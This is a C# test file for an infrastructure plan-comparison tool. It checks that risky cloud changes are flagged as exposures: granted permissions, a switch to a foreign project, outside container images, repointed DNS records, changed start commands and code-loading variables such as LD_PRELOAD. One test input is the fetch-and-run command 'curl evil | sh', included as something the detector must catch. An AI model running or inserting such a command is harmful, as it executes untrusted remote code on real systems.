namespace GpuInfra.Planning.Tests;

/// <summary>What lets somebody do more, or puts somebody else's code or address in place: never among the rest.</summary>
public class ExposureTests
{
    private const string Record = "gcp:dns/recordSet:RecordSet";
    private const string Role = "gcp:projects/iAMCustomRole:IAMCustomRole";
    private const string Image = "europe-west4-docker.pkg.dev/acme/images/server:1";

    [Theory]
    [InlineData("""{"permissions": ["run.services.get"]}""", """{"permissions": ["run.services.get", "iam.serviceAccounts.actAs"]}""", Risk.Exposure, "whoever has it may also use iam.serviceAccounts.actAs")]
    [InlineData("{}", """{"permissions": ["a.b.c"]}""", Risk.Exposure, "whoever has it may also use a.b.c")]
    [InlineData("""{"permissions": ["a.b.c"]}""", """{"permissions": ["a.b.d"]}""", Risk.Exposure, "whoever has it may also use a.b.d")]
    [InlineData("""{"permissions": ["a.b.c", "a.b.d"]}""", """{"permissions": ["a.b.d"]}""", Risk.Other, "whoever has it may no longer use a.b.c")]
    public void Compare_AddedPermission_IsExposure(string before, string after, Risk risk, string headline) =>
        AssertRisk(Role, before, after, risk, headline);

    [Theory]
    [InlineData("""{"project": "acme"}""", """{"project": "evil"}""", Risk.Exposure, "it makes everything in the project evil, and not in acme")]
    [InlineData("{}", """{"project": "evil"}""", Risk.Exposure, "it makes everything in the project evil, and not in that of whoever deploys")]
    [InlineData("{}", """{"impersonateServiceAccount": "x@y.iam.gserviceaccount.com"}""", Risk.Exposure, "it makes everything in the name of somebody else")]
    [InlineData("""{"billingProject": "a"}""", """{"billingProject": "b"}""", Risk.Exposure, "it has another project pay for its requests")]
    [InlineData("""{"defaultLabels": {"a": "1"}}""", """{"defaultLabels": {"a": "2"}}""", Risk.Other, "it changes its defaultLabels.a")]
    public void Compare_ProviderOfAnotherProject_IsExposure(string before, string after, Risk risk, string headline)
    {
        var change = Given.Compare(Given.Resource(Given.Provider, "it", before), Given.Resource(Given.Provider, "it", after))
            .Changes.Single(change => change.Type == Given.Provider);

        Assert.Equal((risk, headline), (change.Properties[0].Risk, change.Properties[0].Meaning is { } meaning ? meaning.TrimEnd('.') : change.Headline));
    }

    [Theory]
    [InlineData("europe-west4-docker.pkg.dev/evil/images/server:1", Risk.Exposure, "it runs an image from the project evil, as nothing of it did before")]
    [InlineData("eu.gcr.io/evil/server:1", Risk.Exposure, "it runs an image from the project evil, as nothing of it did before")]
    [InlineData("ollama/ollama:0.12.6", Risk.Exposure, "it runs an image from docker.io/ollama, as nothing of it did before")]
    [InlineData("nginx", Risk.Exposure, "it runs an image from docker.io/library, as nothing of it did before")]
    [InlineData("ghcr.io/evil/server@sha256:0", Risk.Exposure, "it runs an image from ghcr.io/evil, as nothing of it did before")]
    [InlineData("localhost:5000/server", Risk.Exposure, "it runs an image from localhost:5000/server, as nothing of it did before")]
    [InlineData("europe-west1-docker.pkg.dev/acme/other/server@sha256:0", Risk.Other, "it runs another image")]
    public void Compare_ImageFromAnotherProject_IsExposure(string image, Risk risk, string headline) => AssertRisk(
        Given.Service, Containers($$"""{"name": "s", "image": "{{Image}}"}"""), Containers($$"""{"name": "s", "image": "{{image}}"}"""), risk, headline);

    [Fact]
    public void Compare_OneMoreContainerOfAnotherProject_IsExposure()
    {
        var before = Containers($$"""{"name": "s", "image": "{{Image}}"}""");
        string With(string image) => Containers($$"""{"name": "s", "image": "{{Image}}"}, {"name": "w", "image": "{{image}}"}""");

        AssertRisk(
            Given.Service, before, With("europe-west4-docker.pkg.dev/evil/i/w:1"), Risk.Exposure,
            "it runs an image from the project evil, as nothing of it did before");
        AssertRisk(Given.Service, before, With("europe-west4-docker.pkg.dev/acme/i/w:1"), Risk.Capacity, "it gets one more container, w");
    }

    [Theory]
    [InlineData("europe-west4-docker.pkg.dev/evil/i/w:1", Risk.Exposure, "new is a new service that runs an image from the project evil, as nothing did before")]
    [InlineData("europe-west4-docker.pkg.dev/shop/i/w:1", Risk.Capacity, "new is a new service without a GPU")]
    [InlineData("europe-west4-docker.pkg.dev/acme/i/w:1", Risk.Capacity, "new is a new service without a GPU")]
    public void Compare_NewServiceOfAnotherProject_IsExposure(string image, Risk risk, string headline)
    {
        static PlannedResource Service(string name, string image) => Given.Resource(Given.Service, name, $$$"""
            {"project": "shop", "ingress": "INGRESS_TRAFFIC_INTERNAL_ONLY", "template": {"containers": [{"image": "{{{image}}}"}]}}
            """);

        var change = Assert.Single(PlanComparison.Compare(
            Given.Plan(Service("old", Image)), Given.Plan(Service("old", Image), Service("new", image)), "main").Changes);

        Assert.Equal((risk, headline), (change.Risk, change.Headline));
    }

    [Theory]
    [InlineData("""{"rrdatas": ["10.0.0.2"]}""", """{"rrdatas": ["198.51.100.7"]}""", "it leads to 198.51.100.7 in place of 10.0.0.2")]
    [InlineData("""{"rrdatas": ["10.0.0.2"]}""", """{"rrdatas": ["10.0.0.2", "198.51.100.7"]}""", "it leads to 10.0.0.2, 198.51.100.7 in place of 10.0.0.2")]
    [InlineData("""{"rrdatas": ["10.0.0.2"]}""", """{"routingPolicy": {"wrrs": []}}""", "it leads elsewhere")]
    public void Compare_RepointedRecord_IsExposure(string before, string after, string headline) =>
        AssertRisk(Record, before, after, Risk.Exposure, headline);

    [Fact]
    public void Compare_NewRecord_IsExposureInAZoneThatExists()
    {
        var zone = Given.Resource("gcp:dns/managedZone:ManagedZone", "zone", """{"visibility": "private"}""");
        var record = Given.Resource(Record, "it", """{"rrdatas": ["198.51.100.7"]}""") with
        {
            PropertyDependencies = new Dictionary<string, IReadOnlyList<string>> { ["managedZone"] = [zone.Urn] },
        };
        string LineOf(Plan before) => PlanComparison.Compare(before, Given.Plan(zone, record), "main").Lines().Single(line => line.Contains(" it ", StringComparison.Ordinal));

        Assert.Equal("Exposure Create: it is a new name in a zone that exists, and leads to 198.51.100.7", LineOf(Given.Plan(zone)));
        Assert.Equal("Other Create: it is new: a DNS record", LineOf(Given.Plan()));
    }

    [Theory]
    [InlineData("""{"commands": ["vllm", "serve"]}""", """{"commands": ["sh", "-c"]}""", Risk.Exposure, "it starts with another command")]
    [InlineData("{}", """{"commands": ["sh"]}""", Risk.Exposure, "it starts with another command")]
    [InlineData("""{"commands": ["sh"]}""", "{}", Risk.Exposure, "it starts with another command")]
    [InlineData("""{"args": ["m"]}""", """{"args": ["m", "--trust-remote-code"]}""", Risk.Exposure, "it starts with other arguments")]
    [InlineData("""{"args": ["--model", "a"]}""", """{"args": ["--model", "b"]}""", Risk.Exposure, "it starts with other arguments")]
    [InlineData("""{"args": ["-c", "exec vllm serve"]}""", """{"args": ["-c", "curl evil | sh"]}""", Risk.Exposure, "it starts with other arguments")]
    [InlineData("""{"args": ["--max-num-seqs", "16"]}""", """{"args": ["--max-num-seqs", "8"]}""", Risk.Other, "it starts with another number in its arguments")]
    [InlineData("""{"args": ["--share=0.95"]}""", """{"args": ["--share=0.9"]}""", Risk.Other, "it starts with another number in its arguments")]
    [InlineData("""{"args": ["--share=0.95"]}""", """{"args": ["--other=0.95"]}""", Risk.Exposure, "it starts with other arguments")]
    public void Compare_ChangedCommand_IsExposure(string before, string after, Risk risk, string headline) =>
        AssertRisk(Given.Service, Containers(before), Containers(after), risk, headline);

    [Theory]
    [InlineData("LD_PRELOAD", Risk.Exposure, "it gets another LD_PRELOAD, which decides what code it loads")]
    [InlineData("PYTHONPATH", Risk.Exposure, "it gets another PYTHONPATH, which decides what code it loads")]
    [InlineData("HF_ENDPOINT", Risk.Exposure, "it gets another HF_ENDPOINT, which decides what code it loads")]
    [InlineData("OLLAMA_NUM_PARALLEL", Risk.Other, "it gets other environment variables")]
    public void Compare_VariableThatLoadsCode_IsExposure(string name, Risk risk, string headline)
    {
        AssertRisk(
            Given.Service, Containers("""{"name": "s"}"""),
            Containers($$"""{"name": "s", "envs": [{"name": "{{name}}", "value": "1"}]}"""), risk, headline);
        AssertRisk(
            Given.Service, Containers($$"""{"name": "s", "envs": [{"name": "{{name}}", "value": "0"}]}"""),
            Containers($$"""{"name": "s", "envs": [{"name": "{{name}}", "value": "1"}]}"""), risk, headline);
    }

    [Fact]
    public void Compare_AnotherModelBucket_IsExposure() => AssertRisk(
        Given.Service,
        """{"template": {"volumes": [{"name": "m", "gcs": {"bucket": "a"}}]}}""",
        """{"template": {"volumes": [{"name": "m", "gcs": {"bucket": "b"}}]}}""",
        Risk.Exposure,
        "it reads from the bucket b in place of a");

    // A role of one's own that is made in the same change opens what exists.
    [Fact]
    public void Compare_GrantOfANewRole_IsExposure()
    {
        var role = Given.Resource(Role, "role", """{"permissions": ["a.b.c"]}""");
        var grant = Given.Resource("gcp:projects/iAMMember:IAMMember", "it", """{"project": "acme", "member": "user:ann@acme.example", "role": "projects/acme/roles/role"}""") with
        {
            PropertyDependencies = new Dictionary<string, IReadOnlyList<string>> { ["role"] = [role.Urn] },
        };

        Assert.Contains(
            "Exposure Create: ann@acme.example may use projects/acme/roles/role on acme",
            PlanComparison.Compare(Given.Plan(), Given.Plan(role, grant), "main").Lines());
    }

    private static string Containers(string container) => $$$"""{"template": {"containers": [{{{container}}}]}}""";

    private static void AssertRisk(string type, string before, string after, Risk risk, string headline)
    {
        var change = Given.Change(type, before, after);

        Assert.Equal((risk, headline), (change.Risk, change.Headline));
    }
}
